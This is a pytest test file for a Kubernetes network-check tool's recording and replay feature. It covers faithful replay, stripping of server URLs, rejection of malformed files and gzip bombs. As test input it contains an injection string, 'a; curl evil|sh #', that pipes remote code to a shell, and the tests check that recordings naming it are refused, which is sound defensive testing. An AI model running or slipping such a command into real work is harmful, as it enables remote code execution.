"""Recordings: what was recorded is what is replayed; a bad file is refused with its reason."""

import gzip
import json
import subprocess
import sys
from collections.abc import Callable, Sequence
from pathlib import Path

import pytest

from kubectl_netcheck.cluster.base import Admission, Outcome
from kubectl_netcheck.cluster.recorder import Recorder
from kubectl_netcheck.cluster.recording import Meta, Recording, load, save
from kubectl_netcheck.cluster.replay import Replay
from kubectl_netcheck.model.errors import BadRecording
from kubectl_netcheck.model.inventory import DnsService, Inventory, Node, RunningPod
from kubectl_netcheck.model.plan import GuestRequest, PodRequest, ServiceRequest, Started

META = Meta("pair", {"nodes": ["a", "b"]}, nonce="n0nce", moment="2026-01-01T00:00:00Z")
PODS, SERVICES = [PodRequest("p1", "a"), PodRequest("p1", "b")], [ServiceRequest("a", "p1@a")]


class Scripted:
    """A cluster whose answers tell which call they belong to."""

    calls = 7

    def __init__(self) -> None:
        self.count = 0

    def inventory(self, nodes: Sequence[str], _wanted: object = ()) -> Inventory:
        objects = {"nodes": ({"metadata": {"name": "a"}, "x": ["ä", None, True, 2.5]},)}
        return Inventory("team", tuple(Node(n) for n in nodes), objects=objects, denied={"e": "f"})

    def admit(self) -> Admission:
        return Admission({"host": "no"})

    def await_turn(self, seconds: float, told: Callable[[int], None]) -> None:
        told(3)

    def start(
        self,
        pods: Sequence[PodRequest],
        services: Sequence[ServiceRequest],
        seconds: float,
        settled: Callable[[Started], None],
        straggle: float | None = None,
    ) -> tuple[Started, ...]:
        keys = [p.key for p in pods] + [s.key for s in services]
        found = tuple(Started(key, address="10.0.0.1", seconds=0.25) for key in keys)
        for each in found:
            settled(each)
        return found

    def join(self, guests: Sequence[GuestRequest], seconds: float) -> tuple[Started, ...]:
        return tuple(Started(each.key, address="10.0.0.2") for each in guests)

    def execute(
        self, key: str, program: str, seconds: float, quiet: Callable[[], bool] | None = None
    ) -> Outcome:
        self.count += 1
        return Outcome("exit", f"{key} {program} {self.count}\x00\ufffd\n", 0)

    def relay(self, key: str, program: str, seconds: float) -> Outcome:
        return Outcome("deadline", detail=f"{key} slow", channel="status")

    def clean(self) -> tuple[str, ...]:
        return ("pods/x",)


def drive(cluster: Recorder | Replay) -> list[object]:
    heard: list[object] = []
    found = [
        cluster.inventory(["a", "b"]),
        cluster.admit(),
        cluster.start(PODS, SERVICES, 5, heard.append, straggle=1.0),
        cluster.join([GuestRequest("app", "a", "team", "web")], 5),
        cluster.execute("p1@a", "one", 5),
        cluster.execute("p1@a", "two", 5),
        cluster.execute("p1@b", "one", 5),
        cluster.relay("p1@a", "three", 5),
        cluster.start(PODS[:1], [], 5, heard.append),
        cluster.clean(),
        cluster.calls,
    ]
    return [*found, *heard]


@pytest.mark.parametrize("name", ["run.json", "run.json.gz"])
def test_replay_answers_as_the_cluster_did(tmp_path: Path, name: str) -> None:
    recorder = Recorder(Scripted(), META)
    live = drive(recorder)
    recorder.save(tmp_path / name)
    replay = Replay.open(tmp_path / name)
    assert drive(replay) == live
    assert replay.meta == META
    assert ((tmp_path / name).read_bytes()[:2] == b"\x1f\x8b") is name.endswith(".gz")


def test_the_same_run_gives_the_same_file(tmp_path: Path) -> None:
    for name in ("a.gz", "b.gz"):
        recorder = Recorder(Scripted(), META, clock=lambda: 7.0)
        drive(recorder)
        recorder.save(tmp_path / name)
    assert (tmp_path / "a.gz").read_bytes() == (tmp_path / "b.gz").read_bytes()


def test_what_was_not_recorded_is_absent_and_no_failure(tmp_path: Path) -> None:
    recorder = Recorder(Scripted(), META)
    drive(recorder)
    recorder.save(tmp_path / "run.json")
    replay = Replay.open(tmp_path / "run.json")
    assert replay.execute("p9@z", "x", 1).kind == "absent"
    assert replay.start([PodRequest("p9", "z")], [], 1, lambda _: None)[0].kind == "absent"


def test_an_interrupted_run_can_be_saved_and_says_what_it_lacks(tmp_path: Path) -> None:
    Recorder(Scripted(), META).save(tmp_path / "run.json")
    with pytest.raises(BadRecording, match="no inventory"):
        Replay.open(tmp_path / "run.json").inventory(["a"])


class Talkative(Scripted):
    """A cluster that names its server in whatever it says."""

    SAID = 'Post "https://api.prod.example:6443/x": dial tcp 192.0.2.7:6443: i/o timeout'
    KEPT = 'Post "…": dial tcp 192.0.2.7:6443: i/o timeout'

    def inventory(self, nodes: Sequence[str], _wanted: object = ()) -> Inventory:
        return Inventory("team", denied={"events": self.SAID})

    def admit(self) -> Admission:
        return Admission({"host": self.SAID})

    def start(  # type: ignore[override]
        self, pods: Sequence[PodRequest], services: Sequence[ServiceRequest], *_: object
    ) -> tuple[Started, ...]:
        wanted = (*pods, *services)
        return tuple(Started(each.key, kind="sandbox", trouble=self.SAID) for each in wanted)

    def join(self, guests: Sequence[GuestRequest], seconds: float) -> tuple[Started, ...]:
        return tuple(Started(each.key, kind="image", trouble=self.SAID) for each in guests)

    def execute(self, key: str, *_: object) -> Outcome:  # type: ignore[override]
        return Outcome("refused", detail=self.SAID)

    def relay(self, key: str, program: str, seconds: float) -> Outcome:
        return Outcome("start-error", detail=self.SAID, channel="status")


def test_what_the_server_says_is_recorded_without_its_url(tmp_path: Path) -> None:
    recorder = Recorder(Talkative(), META)
    live = drive(recorder)
    recorder.save(tmp_path / "run.json")
    text = (tmp_path / "run.json").read_text(encoding="utf-8")
    assert "api.prod.example" not in text
    assert text.count(json.dumps(Talkative.KEPT, ensure_ascii=False)) == 11
    replayed = drive(Replay.open(tmp_path / "run.json"))
    assert replayed[: len(live)] == live  # after it, what a listener heard: here, of the replay


HOSTILE = "a; curl evil|sh #"


@pytest.mark.parametrize(
    "inventory",
    [
        Inventory(HOSTILE),
        Inventory("team", nodes=(Node("a"), Node(HOSTILE))),
        Inventory("team", running=(RunningPod("shop", "web", HOSTILE, "10.0.0.1"),)),
        Inventory("team", dns=DnsService(namespace=HOSTILE)),
        Inventory("team", selected=(HOSTILE,)),
    ],
    ids=["namespace", "node", "a pod's node", "dns", "selected"],
)
def test_a_name_that_nothing_can_have(inventory: Inventory, tmp_path: Path) -> None:
    save(Recording(META, inventory), tmp_path / "run.json")
    with pytest.raises(BadRecording) as problem:
        load(tmp_path / "run.json")
    assert problem.value.exit_code == 2
    assert problem.value.why == f"nothing in a cluster can be called {HOSTILE!r}"


def test_objects_are_read_back_as_the_server_would_have_named_them(tmp_path: Path) -> None:
    there = {"metadata": {"name": "kube-flannel-ds", "namespace": HOSTILE}, "kind": "x; y"}
    inventory = Inventory("team", objects={"daemonsets": (there,)}, asked={"pods": (there,)})
    save(Recording(META, inventory), tmp_path / "run.json")
    found = load(tmp_path / "run.json").inventory
    assert found is not None
    kept = {"metadata": {"name": "kube-flannel-ds", "namespace": ""}, "kind": "x; y"}
    assert (found.objects, found.asked) == ({"daemonsets": (kept,)}, {"pods": (kept,)})


GOOD = {"kind": "Recording", "apiVersion": "netcheck/v1", "meta": {}}
BAD = {
    "empty": (b"", "it is empty"),
    "cut": (b'{"kind": "Rec', "not JSON"),
    "report": (json.dumps({"kind": "Report"}).encode(), "what was found"),
    "version": (json.dumps({**GOOD, "apiVersion": "netcheck/v9"}).encode(), "netcheck/v9"),
    "unknown key": (json.dumps({**GOOD, "extra": 1}).encode(), "unknown key 'extra'"),
    "type": (json.dumps({**GOOD, "calls": "7"}).encode(), "$.calls: expected int"),
    "nan": (b'{"kind": "Recording", "x": NaN}', "NaN"),
    "binary": (b"\xff\xfe\x00", "UTF-8"),
    "broken gzip": (gzip.compress(b"{}")[:-4], "end"),
    "deep": (b"[" * 100_000, "not JSON"),
}


@pytest.mark.parametrize(("data", "words"), BAD.values(), ids=BAD)
def test_bad_files(tmp_path: Path, data: bytes, words: str) -> None:
    path = tmp_path / "bad.json"
    path.write_bytes(data)
    with pytest.raises(BadRecording) as problem:
        load(path)
    assert words in problem.value.why and str(path) in problem.value.what


def test_a_missing_file(tmp_path: Path) -> None:
    with pytest.raises(BadRecording, match=r"none\.json"):
        load(tmp_path / "none.json")


def test_a_gzip_bomb_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("kubectl_netcheck.cluster.files.LIMIT", 2**20)
    path = tmp_path / "bomb.gz"
    path.write_bytes(gzip.compress(b" " * (2**20 + 1)))
    with pytest.raises(BadRecording) as problem:
        load(path)
    assert "larger than 1 MiB" in problem.value.why


def test_replay_imports_no_client() -> None:
    code = (
        "import sys, kubectl_netcheck.cluster.replay\n"
        "print([m for m in ('kubernetes', 'urllib3', 'websocket', 'yaml') if m in sys.modules])"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
